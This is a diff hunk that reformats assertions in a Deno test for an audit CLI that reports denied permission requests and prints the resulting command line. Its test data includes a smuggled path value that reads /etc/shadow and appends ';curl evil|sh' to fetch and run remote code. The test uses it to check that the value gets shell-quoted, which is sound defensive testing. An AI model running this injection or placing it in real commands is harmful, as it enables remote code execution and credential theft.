@@ -228,9 +228,16 @@ Deno.test("audit CLI prints the report with the denied attempts and the flags", 
       e.value === "/etc/shadow"
     );
     assert.equal(entry?.decision, "deny");
-    assert.ok(report.minimalFlags.includes("--allow-read=/etc/shadow,/tmp/x;curl evil|sh"));
+    assert.ok(
+      report.minimalFlags.includes(
+        "--allow-read=/etc/shadow,/tmp/x;curl evil|sh",
+      ),
+    );
     // A path the program chose cannot smuggle shell syntax into the command.
-    assert.match(report.denoCommand, /^deno run '--allow-read=\/etc\/shadow,\/tmp\/x;curl evil\|sh' /);
+    assert.match(
+      report.denoCommand,
+      /^deno run '--allow-read=\/etc\/shadow,\/tmp\/x;curl evil\|sh' /,
+    );
   } finally {
     await Deno.remove(dir, { recursive: true });
   }
